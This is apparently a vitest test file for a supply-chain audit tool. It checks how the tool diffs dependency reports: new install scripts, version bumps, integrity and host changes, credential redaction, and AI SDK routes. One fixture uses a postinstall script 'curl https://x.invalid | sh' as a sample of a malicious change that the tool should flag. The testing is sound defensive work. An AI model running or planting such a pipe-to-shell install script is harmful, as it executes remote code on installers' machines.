import { describe, expect, it } from 'vitest';
import { diffReports, passesWithBaseline } from '../../src/report/diff/diff-reports.js';
import { diffAiRoutes, diffAiTools } from '../../src/report/diff/ai.js';
import { findingFingerprint } from '../../src/report/diff/fingerprint.js';
import type { AiToolReport, Finding } from '../../src/report/model.js';
import { ago, hours, packageFacts, versionFacts } from '../helpers/facts.js';
import { express, nativeBuild, openai, reportOf, type Locked } from '../helpers/diff-reports.js';

describe('diffReports: a pull request that adds a dependency with an install script and bumps an AI SDK', () => {
  const base = reportOf([express('4.21.0'), openai('4.0.0')]);
  const head = reportOf([express('4.21.0'), openai('4.1.0'), nativeBuild]);
  const { diff, findings } = diffReports(base, head, { ref: 'main', commit: 'a'.repeat(40) });

  it('reports exactly those two package changes', () => {
    expect(diff.packages.added.map((pkg) => `${pkg.name}@${pkg.version}`)).toEqual(['native-build@1.0.0']);
    expect(diff.packages.removed).toEqual([]);
    expect(diff.packages.changed.map((change) => ({ name: change.name, from: change.from.version, to: change.to.version, changed: change.changed }))).toEqual([
      { name: 'openai', from: '4.0.0', to: '4.1.0', changed: ['version'] },
    ]);
    expect(diff.base).toEqual({ ref: 'main', commit: 'a'.repeat(40), lockfile: 'package-lock.json', lockfileFormat: 'npm' });
  });

  it('marks the install script new and what the base already had unchanged', () => {
    const newOnes = findings.filter((finding) => finding.baselineState === 'new').map((finding) => `${finding.ruleId} ${finding.package?.name}`);
    expect(newOnes).toContain('install-script native-build');
    expect(newOnes.every((finding) => finding.endsWith('native-build'))).toBe(true);
    const unchanged = findings.filter((finding) => finding.baselineState === 'unchanged').map((finding) => `${finding.ruleId} ${finding.package?.name}`);
    expect(unchanged).toContain('unpinned-spec express');
    expect(findings.map(({ baselineState: _state, ...finding }) => finding)).toEqual(head.findings);
    expect(diff.summary.newFindings).toBe(newOnes.length);
    expect(diff.summary.unchangedFindings).toBe(unchanged.length);
    expect(diff.absentFindings).toEqual([]);
  });

  it('the gate counts the new finding only, unless existing ones are to count', () => {
    const strict = { ...head, summary: { ...head.summary, failOn: 'low' as const } };
    expect(passesWithBaseline(strict, findings, false)).toBe(false);
    const withoutInstallScript = findings.filter((finding) => finding.package?.name !== 'native-build');
    expect(passesWithBaseline(strict, withoutInstallScript, false)).toBe(true);
    expect(passesWithBaseline(strict, withoutInstallScript, true)).toBe(false);
    expect(passesWithBaseline({ ...strict, summary: { ...strict.summary, errors: 1 } }, withoutInstallScript, false)).toBe(false);
  });

  it('nothing changed: nothing is new, and the same report diffed with itself is empty', () => {
    const same = diffReports(head, head);
    expect(same.diff.summary).toEqual({ packagesAdded: 0, packagesRemoved: 0, packagesChanged: 0, aiToolsAdded: 0, aiToolsRemoved: 0, aiRoutesAdded: 0, aiRoutesRemoved: 0, newFindings: 0, unchangedFindings: head.findings.length, absentFindings: 0 });
  });
});

describe('diffReports: what "the same finding" means across a version bump', () => {
  it('recent-release on the new version is new; the one on the old version is absent', () => {
    const base = reportOf([openai('4.0.0', ago(hours(2)))]);
    const head = reportOf([openai('4.1.0', ago(hours(1)))]);
    const { diff, findings } = diffReports(base, head);
    expect(findings.filter((finding) => finding.ruleId === 'recent-release').map((finding) => [finding.package?.version, finding.baselineState])).toEqual([['4.1.0', 'new']]);
    expect(diff.absentFindings.map((finding) => [finding.ruleId, finding.package?.version, finding.baselineState])).toEqual([['recent-release', '4.0.0', 'absent']]);
  });

  it('unpinned-spec follows the declaration, not the version it locks', () => {
    const { findings } = diffReports(reportOf([express('4.21.0')]), reportOf([express('4.21.2')]));
    expect(findings.filter((finding) => finding.ruleId === 'unpinned-spec').map((finding) => finding.baselineState)).toEqual(['unchanged']);
  });

  it('an install script that changes is a new finding; the same script on the next version is not', () => {
    const next = (version: string, script: string): Locked => ({
      pkg: { name: 'native-build', version, hasInstallScript: true },
      facts: packageFacts('native-build', version, { locked: { installScripts: { postinstall: script } }, earlier: [versionFacts('0.1.0', { installScripts: { postinstall: script } })] }),
    });
    const base = reportOf([next('1.0.0', 'node build.js')]);
    expect(diffReports(base, reportOf([next('1.0.1', 'node build.js')])).findings.map((finding) => finding.baselineState)).toEqual(['unchanged']);
    expect(diffReports(base, reportOf([next('1.0.1', 'curl https://x.invalid | sh')])).findings.map((finding) => finding.baselineState)).toEqual(['new']);
  });

  it('findings are matched as a multiset: one more of the same is new', () => {
    const finding: Finding = { ruleId: 'lockfile-untrusted-source', severity: 'medium', package: { name: 'a', version: '1.0.0' }, message: 'm', remediation: 'r', evidence: { kind: 'git', resolved: 'git+ssh://git@git.example.test/a.git#1' }, location: { file: 'package-lock.json', line: 3 }, paths: [], aiTier: null };
    const moved = { ...finding, package: { name: 'a', version: '1.0.1' }, location: { file: 'package-lock.json', line: 40 }, evidence: { kind: 'git', resolved: 'git+ssh://git@git.example.test/a.git#2' } };
    expect(findingFingerprint(moved)).toBe(findingFingerprint(finding));
    const elsewhere = { ...finding, evidence: { kind: 'git', resolved: 'git+ssh://git@other.example.test/a.git#1' } };
    expect(findingFingerprint(elsewhere)).not.toBe(findingFingerprint(finding));
    const base = reportOf([]);
    const { findings, diff } = diffReports({ ...base, findings: [finding] }, { ...base, findings: [moved, moved] });
    expect(findings.map((item) => item.baselineState)).toEqual(['unchanged', 'new']);
    expect(diff.absentFindings).toEqual([]);
  });
});

describe('diffReports: packages', () => {
  it('the same version with another integrity or host is a change; the host is shown without credentials', () => {
    const base = reportOf([{ pkg: { name: 'a', version: '1.0.0', integrity: 'sha512-one' } }, { pkg: { name: 'b', version: '2.0.0' } }]);
    const head = reportOf([
      { pkg: { name: 'a', version: '1.0.0', integrity: 'sha512-two' } },
      { pkg: { name: 'b', version: '2.0.0', resolved: 'https://user:s3cret@mirror.example.test/b/-/b-2.0.0.tgz' } },
    ]);
    const { diff } = diffReports(base, head);
    expect(diff.packages.changed.map((change) => [change.name, change.changed, change.to.host])).toEqual([
      ['a', ['integrity'], 'registry.example.test'],
      ['b', ['host'], 'mirror.example.test'],
    ]);
    expect(JSON.stringify(diff)).not.toContain('s3cret');
  });

  it('a name locked at several versions: versions on both sides stay, the others pair highest with highest', () => {
    const lock = (...versions: string[]) => reportOf(versions.map((version) => ({ pkg: { name: 'ms', version } })));
    const { diff } = diffReports(lock('1.0.0', '2.0.0', '2.1.0'), lock('1.0.0', '2.1.0', '3.0.0', '4.0.0'));
    expect(diff.packages.changed.map((change) => `${change.from.version}->${change.to.version}`)).toEqual(['2.0.0->4.0.0']);
    expect(diff.packages.added.map((pkg) => pkg.version)).toEqual(['3.0.0']);
    const { diff: down } = diffReports(lock('1.0.0', '2.0.0'), lock('2.0.0'));
    expect(down.packages.removed.map((pkg) => pkg.version)).toEqual(['1.0.0']);
    expect(down.packages.changed).toEqual([]);
  });

  it('a package that moves from the registry to git is a change of source and host', () => {
    const base = reportOf([{ pkg: { name: 'a', version: '1.0.0' } }]);
    const head = reportOf([{ pkg: { name: 'a', version: '1.0.0', source: 'git', resolved: 'git+ssh://git@git.example.test/a.git#abc', integrity: null } }]);
    expect(diffReports(base, head).diff.packages.changed.map((change) => change.changed)).toEqual([['source', 'host']]);
  });
});

describe('diffReports: AI tools and routes', () => {
  const tool = (name: string, via: string | null, version = '1.0.0'): AiToolReport => ({
    name,
    version,
    kind: 'package',
    origin: 'npm',
    tool: name,
    vendor: 'v',
    tier: 'provider-sdk',
    role: 'provider-sdk',
    requestPath: via ? 'network-hop' : 'in-process',
    handlesKeys: 'none',
    sendsPrompts: 'none',
    singlePointOfFailure: null,
    hosting: null,
    via,
    confidence: { requestPath: 'observed', handlesKeys: 'observed', sendsPrompts: 'observed', singlePointOfFailure: 'observed' },
    reaches: [],
    endpoint: null,
    unresolved: [],
    summary: '',
    evidence: [],
  });

  it('a tool is added or removed by name, not by version; a new gateway in `via` is a new route', () => {
    const base = [tool('openai', null, '4.0.0'), tool('@anthropic-ai/sdk', 'OpenRouter (openrouter.ai)')];
    const head = [tool('openai', 'OpenRouter (openrouter.ai); Portkey (api.portkey.ai)', '4.1.0'), tool('portkey-ai', null)];
    expect(diffAiTools(base, head)).toEqual({ added: [{ name: 'portkey-ai', version: '1.0.0', origin: 'npm', tool: 'portkey-ai', tier: 'provider-sdk' }], removed: [{ name: '@anthropic-ai/sdk', version: '1.0.0', origin: 'npm', tool: '@anthropic-ai/sdk', tier: 'provider-sdk' }] });
    expect(diffAiRoutes(base, head)).toEqual({
      added: [
        { from: 'openai', via: 'OpenRouter (openrouter.ai)' },
        { from: 'openai', via: 'Portkey (api.portkey.ai)' },
      ],
      removed: [{ from: '@anthropic-ai/sdk', via: 'OpenRouter (openrouter.ai)' }],
    });
  });

  it('routes to endpoint rows: the packages (or fetch) that reach each endpoint', () => {
    const helicone: AiToolReport = { ...tool('Helicone', null), kind: 'endpoint', origin: 'endpoint', endpoint: { host: 'oai.helicone.ai', reachedBy: ['openai', 'fetch'], routes: [] } };
    const openai = { ...tool('openai', 'Helicone (oai.helicone.ai)'), reaches: ['Helicone'] };
    expect(diffAiRoutes([tool('openai', null)], [openai, helicone]).added).toEqual([
      { from: 'openai', via: 'Helicone' },
      { from: 'fetch', via: 'Helicone' },
    ]);
    expect(diffAiRoutes([openai, helicone], [openai, helicone])).toEqual({ added: [], removed: [] });
  });
});
